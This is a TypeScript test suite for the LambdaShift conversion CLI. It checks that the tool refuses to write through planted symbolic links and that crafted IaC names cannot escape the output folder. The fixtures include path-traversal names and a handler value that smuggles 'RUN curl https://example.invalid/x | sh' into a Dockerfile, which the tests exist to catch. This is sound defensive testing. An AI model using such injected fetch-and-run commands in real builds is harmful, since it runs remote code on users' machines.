// Issue #22, "writes only where asked": a repository can ship symbolic links at or above the default output path,
// and crafted names in its IaC. Each case plants a link shape, runs the CLI as a user would, and checks the exit
// code, the message, and that the folder the link points at is unchanged (hashes of everything in it).
import assert from 'node:assert/strict';
import { cpSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { parse } from 'yaml';
import { main } from '../../../src/cli/main';
import { snapshot } from '../../helpers/fsSnapshot';
import { tempDir } from '../../helpers/tmp';

const root = path.resolve(__dirname, '../../..');
const work = tempDir('ls-convert-links-');
after(() => rmSync(work, { recursive: true, force: true }));

async function cli(cwd: string, ...argv: string[]) {
  let stdout = '';
  let stderr = '';
  const code = await main(argv, { cwd, isTTY: false, env: {}, stdout: (s) => (stdout += s), stderr: (s) => (stderr += s) });
  return { code, stdout, stderr };
}

let n = 0;
/** A case folder: `repo` (a copy of examples/orders-sam) and `outside`, which holds a .bashrc a link can name. */
function fresh() {
  const dir = path.join(work, `case-${++n}`);
  const repo = path.join(dir, 'repo');
  const outside = path.join(dir, 'outside');
  cpSync(path.join(root, 'examples/orders-sam'), repo, { recursive: true });
  mkdirSync(outside);
  writeFileSync(path.join(outside, '.bashrc'), 'export PATH=/usr/bin\n');
  return { dir, repo, outside, out: path.join(repo, 'k8s/nightly-cleanup') };
}

const UNIT = ['--unit', 'NightlyCleanupFunction'];

describe('convert never writes through a planted link (#22)', () => {
  it('the output parent (k8s/) is a link to an outside folder: exit 2, names the link, nothing written', async () => {
    const c = fresh();
    symlinkSync(c.outside, path.join(c.repo, 'k8s'));
    const before = snapshot(c.outside);
    for (const force of [[], ['--force']]) {
      const r = await cli(c.dir, 'convert', 'repo', ...UNIT, ...force);
      assert.equal(r.code, 2, r.stderr);
      assert.equal(
        r.stderr,
        `lambdashift: refusing to write NightlyCleanupFunction's files to repo/k8s/nightly-cleanup: repo/k8s is a symbolic link (to ${c.outside}), and LambdaShift never writes through symbolic links. Nothing was written. Remove the link (or replace it with a real folder), or choose another folder with --out.\n`,
      );
    }
    assert.deepEqual(snapshot(c.outside), before);
  });

  it('the output folder itself is a link: exit 2', async () => {
    const c = fresh();
    mkdirSync(path.join(c.repo, 'k8s'));
    symlinkSync(c.outside, c.out);
    const before = snapshot(c.outside);
    const r = await cli(c.dir, 'convert', 'repo', ...UNIT, '--force');
    assert.equal(r.code, 2);
    assert.match(r.stderr, /repo\/k8s\/nightly-cleanup is a symbolic link .*never writes through symbolic links\. Nothing was written\./);
    assert.deepEqual(snapshot(c.outside), before);
  });

  it('a subfolder of the output (iam/) is a link: exit 2 before any file is written', async () => {
    const c = fresh();
    mkdirSync(c.out, { recursive: true });
    symlinkSync(c.outside, path.join(c.out, 'iam'));
    const before = snapshot(c.outside);
    const r = await cli(c.dir, 'convert', 'repo', ...UNIT, '--force');
    assert.equal(r.code, 2);
    assert.match(r.stderr, /repo\/k8s\/nightly-cleanup\/iam is a symbolic link/);
    assert.deepEqual(snapshot(c.outside), before);
    assert.deepEqual(readdirSync(c.out), ['iam'], 'all or nothing: no other file was written');
  });

  it('a dangling link at a target: listed as existing (exit 2); --force replaces the link, never creates its target', async () => {
    const c = fresh();
    mkdirSync(c.out, { recursive: true });
    rmSync(path.join(c.outside, '.bashrc'));
    symlinkSync(path.join(c.outside, '.bashrc'), path.join(c.out, 'Dockerfile'));
    const before = snapshot(c.outside);
    const r = await cli(c.dir, 'convert', 'repo', ...UNIT);
    assert.equal(r.code, 2);
    assert.equal(
      r.stderr,
      `lambdashift: these files already exist and were not changed:\n  repo/k8s/nightly-cleanup/Dockerfile (a symbolic link to ${path.join(c.outside, '.bashrc')})\nPass --force to overwrite them (a link is replaced by a regular file; its target is not touched), or choose another folder with --out.\n`,
    );
    assert.deepEqual(readdirSync(c.out), ['Dockerfile']);
    const forced = await cli(c.dir, 'convert', 'repo', ...UNIT, '--force');
    assert.equal(forced.code, 0, forced.stderr);
    assert.match(forced.stderr, /^Wrote 8 files for NightlyCleanupFunction → kubernetes to repo\/k8s\/nightly-cleanup\./);
    assert.deepEqual(snapshot(c.outside), before, 'no .bashrc was created outside');
    const st = lstatSync(path.join(c.out, 'Dockerfile'));
    assert.ok(st.isFile() && !st.isSymbolicLink());
    assert.match(readFileSync(path.join(c.out, 'Dockerfile'), 'utf8'), /^# Generated by LambdaShift/);
  });

  it('a link to an existing outside file: exit 2 without --force; --force replaces the link and leaves the file alone', async () => {
    const c = fresh();
    mkdirSync(c.out, { recursive: true });
    symlinkSync(path.join(c.outside, '.bashrc'), path.join(c.out, 'README.md'));
    const before = snapshot(c.outside);
    const r = await cli(c.dir, 'convert', 'repo', ...UNIT);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /README\.md \(a symbolic link to .*\.bashrc\)\nPass --force/);
    assert.deepEqual(snapshot(c.outside), before);
    const forced = await cli(c.dir, 'convert', 'repo', ...UNIT, '--force');
    assert.equal(forced.code, 0, forced.stderr);
    assert.deepEqual(snapshot(c.outside), before);
    assert.equal(readFileSync(path.join(c.outside, '.bashrc'), 'utf8'), 'export PATH=/usr/bin\n');
    assert.ok(!lstatSync(path.join(c.out, 'README.md')).isSymbolicLink());
    assert.ok(!readdirSync(c.out).some((f) => f.includes('lambdashift-tmp')), 'no temporary file is left behind');
  });

  it("--out: an explicit folder outside the scanned one is the user's choice; an --out through a link is refused", async () => {
    const c = fresh();
    symlinkSync(c.outside, path.join(c.repo, 'deploy'));
    const before = snapshot(c.outside);
    const viaLink = await cli(c.dir, 'convert', 'repo', ...UNIT, '--out', 'deploy/cleanup');
    assert.equal(viaLink.code, 2);
    assert.match(viaLink.stderr, /repo\/deploy is a symbolic link/);
    assert.deepEqual(snapshot(c.outside), before);
    const explicit = await cli(c.dir, 'convert', 'repo', ...UNIT, '--out', '../outside/cleanup');
    assert.equal(explicit.code, 0, explicit.stderr);
    assert.match(explicit.stderr, /note: --out is outside repo/);
    assert.ok(existsSync(path.join(c.outside, 'cleanup/cronjob.yaml')));
    // ...but not through a link at the output folder itself, even there.
    symlinkSync(path.join(c.dir, 'repo'), path.join(c.outside, 'again'));
    const linked = await cli(c.dir, 'convert', 'repo', ...UNIT, '--out', '../outside/again');
    assert.equal(linked.code, 2);
    assert.match(linked.stderr, /outside\/again is a symbolic link/);
  });

  it('assess --output through a link: exit 2 with the reason; a plain file is written', async () => {
    const c = fresh();
    symlinkSync(path.join(c.outside, '.bashrc'), path.join(c.dir, 'report.json'));
    symlinkSync(c.outside, path.join(c.dir, 'reports'));
    const before = snapshot(c.outside);
    const r = await cli(c.dir, 'assess', 'repo', '--format', 'json', '--output', 'report.json', '--fail-on', 'never', '--no-cache');
    assert.equal(r.code, 2);
    assert.equal(
      r.stderr,
      `lambdashift: not writing the report to 'report.json': report.json is a symbolic link (to ${path.join(c.outside, '.bashrc')}), and LambdaShift never writes through symbolic links. Remove the link, or pass another --output.\n`,
    );
    const inFolder = await cli(c.dir, 'assess', 'repo', '--output', 'reports/r.txt', '--fail-on', 'never', '--no-cache');
    assert.equal(inFolder.code, 2);
    assert.match(inFolder.stderr, /not writing the report to 'reports\/r\.txt': reports is a symbolic link/);
    assert.deepEqual(snapshot(c.outside), before);
    const ok = await cli(c.dir, 'assess', 'repo', '--format', 'json', '--output', 'plain.json', '--fail-on', 'never', '--no-cache');
    assert.equal(ok.code, 0, ok.stderr);
    assert.equal(JSON.parse(readFileSync(path.join(c.dir, 'plain.json'), 'utf8')).schemaVersion, 1);
  });
});

describe('names from the IaC never become paths or Dockerfile lines (#22)', () => {
  const dir = path.join(work, 'crafted');
  const repo = path.join(dir, 'repo');
  const outside = path.join(dir, 'outside');
  mkdirSync(path.join(repo, 'src'), { recursive: true });
  mkdirSync(outside);
  writeFileSync(path.join(repo, 'src/app.ts'), 'export const handler = async () => ({ ok: true });\n');
  writeFileSync(
    path.join(repo, 'template.yaml'),
    [
      'Transform: AWS::Serverless-2016-10-31',
      'Resources:',
      '  Evil:',
      '    Type: AWS::Serverless::Function',
      '    Properties:',
      '      Runtime: nodejs20.x',
      '      CodeUri: src/',
      '      Handler: "../../../.bashrc.handler"',
      '    Metadata:',
      '      BuildProperties:',
      '        EntryPoints: [app.ts]',
      '  Injected:',
      '    Type: AWS::Serverless::Function',
      '    Properties:',
      '      Runtime: nodejs20.x',
      '      CodeUri: src/',
      '      Handler: "app\\nRUN curl https://example.invalid/x | sh\\n#.handler"',
      '    Metadata:',
      '      BuildProperties:',
      '        EntryPoints: [app.ts]',
      '',
    ].join('\n'),
  );
  writeFileSync(
    path.join(repo, 'serverless.yml'),
    [
      'service: s',
      'provider:',
      '  name: aws',
      '  runtime: nodejs20.x',
      'functions:',
      '  "../../../outside/x":',
      '    handler: src/app.handler',
      '  "a/..\\\\b":',
      '    handler: src/app.handler',
      '',
    ].join('\n'),
  );

  it('a handler naming ../../../.bashrc stays inside the output folder, as a Dockerfile placeholder', async () => {
    mkdirSync(path.join(repo, 'k8s/evil'), { recursive: true });
    // The scenario: a crafted handler plus a planted link at a generated file.
    symlinkSync(path.join(outside, '.bashrc'), path.join(repo, 'k8s/evil/Dockerfile'));
    const before = snapshot(outside);
    const r = await cli(dir, 'convert', 'repo', '--unit', 'Evil', '--force');
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(snapshot(outside), before);
    const dockerfile = readFileSync(path.join(repo, 'k8s/evil/Dockerfile'), 'utf8');
    assert.match(dockerfile, /--outfile=\/out\/<HANDLER_MODULE>\.js/);
    // Only the comment explaining the placeholder quotes the handler.
    assert.doesNotMatch(
      dockerfile
        .split('\n')
        .filter((l) => !l.startsWith('#'))
        .join('\n'),
      /bashrc|\.\.\//,
    );
    assert.match(r.stderr, /Dockerfile placeholder <HANDLER_MODULE>: the handler "\.\.\/\.\.\/\.\.\/\.bashrc\.handler" does not name a plain module path/);
  });

  it('a handler with line breaks adds no Dockerfile instruction', async () => {
    const r = await cli(dir, 'convert', 'repo', '--unit', 'Injected');
    assert.equal(r.code, 0, r.stderr);
    const dockerfile = readFileSync(path.join(repo, 'k8s/injected/Dockerfile'), 'utf8');
    assert.doesNotMatch(dockerfile, /^RUN curl/m);
    for (const line of dockerfile.split('\n')) assert.match(line, /^(#|FROM |ENV |WORKDIR |COPY |RUN (if|npx|npm) |USER |CMD |$)/, line);
    // The handler itself goes to the runner through YAML, which quotes it.
    const deployment = parse(readFileSync(path.join(repo, 'k8s/injected/job.yaml'), 'utf8'));
    const env = deployment.spec.template.spec.containers[0].env as { name: string; value?: string }[];
    assert.equal(env.find((e) => e.name === 'LAMBDASHIFT_HANDLER')?.value, 'app\nRUN curl https://example.invalid/x | sh\n#.handler');
  });

  it('function names with / and .. become one sanitised folder under k8s/', async () => {
    const before = snapshot(outside);
    const r = await cli(dir, 'convert', 'repo', '--unit', '../../../outside/x');
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /to repo\/k8s\/outside-x\./);
    const r2 = await cli(dir, 'convert', 'repo', '--unit', 'a/..\\b');
    assert.equal(r2.code, 0, r2.stderr);
    assert.match(r2.stderr, /to repo\/k8s\/a-b\./);
    assert.deepEqual(snapshot(outside), before);
    assert.deepEqual(readdirSync(dir).sort(), ['outside', 'repo']);
  });
});

describe('converting twice (#22)', () => {
  const dir = path.join(work, 'twice');
  cpSync(path.join(root, 'examples'), path.join(dir, 'examples'), { recursive: true });

  it('the second convert finds the same source unit: exit 2 listing the files, then --force overwrites', async () => {
    const first = await cli(dir, 'convert', 'examples', '--unit', 'webhook');
    assert.equal(first.code, 0, first.stderr);
    const again = await cli(dir, 'convert', 'examples', '--unit', 'webhook');
    assert.equal(again.code, 2);
    assert.match(again.stderr, /^lambdashift: these files already exist and were not changed:\n {2}examples\/k8s\/webhook\/serviceaccount\.yaml\n/);
    assert.doesNotMatch(again.stderr, /names 2 units/);
    const forced = await cli(dir, 'convert', 'examples', '--unit', 'webhook', '--force');
    assert.equal(forced.code, 0, forced.stderr);
    assert.match(forced.stderr, /^Wrote 10 files for webhook → kubernetes to examples\/k8s\/webhook\./);
  });

  it('the same for a workload converted to Lambda, and for the round trip back', async () => {
    // inventory-api has a log-shipper sidecar: a blocker for Lambda, so converting needs explicit consent.
    const blocked = await cli(dir, 'convert', 'examples', '--unit', 'inventory-api');
    assert.equal(blocked.code, 1);
    assert.match(blocked.stderr, /not converting inventory-api: .*blocker[\s\S]*log-shipper[\s\S]*Nothing was written\. .*--force-blockers/);
    assert.ok(!existsSync(path.join(dir, 'examples/lambda/inventory-api')));
    assert.equal((await cli(dir, 'convert', 'examples', '--unit', 'inventory-api', '--force-blockers')).code, 0);
    assert.equal((await cli(dir, 'convert', 'examples', '--unit', 'inventory-api', '--force-blockers')).code, 2);
    assert.equal((await cli(dir, 'convert', 'examples', '--unit', 'inventory-api', '--force-blockers', '--force')).code, 0);
    const template = readFileSync(path.join(dir, 'examples/lambda/inventory-api/template.yaml'), 'utf8');
    assert.equal(parse(template).Resources.InventoryApiFunction.Metadata['lambdashift.dev/converted-from'], 'inventory-k8s/k8s/deployment.yaml#inventory-api');
    // Back to Kubernetes: the new k8s/inventory-api Deployment shares its source's name; the source still wins.
    const back = await cli(dir, 'convert', 'examples', '--unit', 'InventoryApiFunction');
    assert.equal(back.code, 0, back.stderr);
    const source = await cli(dir, 'convert', 'examples', '--unit', 'inventory-api', '--dry-run', '--force-blockers');
    assert.equal(source.code, 0, source.stderr);
    assert.match(
      source.stdout,
      /^--- examples\/lambda\/inventory-api\/template\.yaml\n# BLOCKERS [^\n]*\n(# .*\n)*# Generated by LambdaShift from inventory-k8s\/k8s\/deployment\.yaml /,
    );
  });

  it('assess lists converted output as generated units, without findings in the generated runners', async () => {
    const r = await cli(dir, 'assess', 'examples', '--format', 'json', '--fail-on', 'never', '--no-cache');
    assert.equal(r.code, 0, r.stderr);
    const report = JSON.parse(r.stdout) as { units: { name: string; file: string; generatedFrom?: string }[]; findings: { file: string }[] };
    const generated = report.units.filter((u) => u.generatedFrom).map((u) => `${u.name} ${u.file} ← ${u.generatedFrom}`);
    assert.deepEqual(generated.sort(), [
      'InventoryApiFunction lambda/inventory-api/template.yaml ← inventory-k8s/k8s/deployment.yaml#inventory-api',
      'inventory-api k8s/inventory-api/deployment.yaml ← lambda/inventory-api/template.yaml#InventoryApiFunction',
      'webhook k8s/webhook/deployment.yaml ← notifications-serverless/serverless.yml#webhook',
    ]);
    assert.deepEqual(
      report.findings.filter((f) => /lambdashift[-_]runner/.test(f.file)),
      [],
    );
  });
});
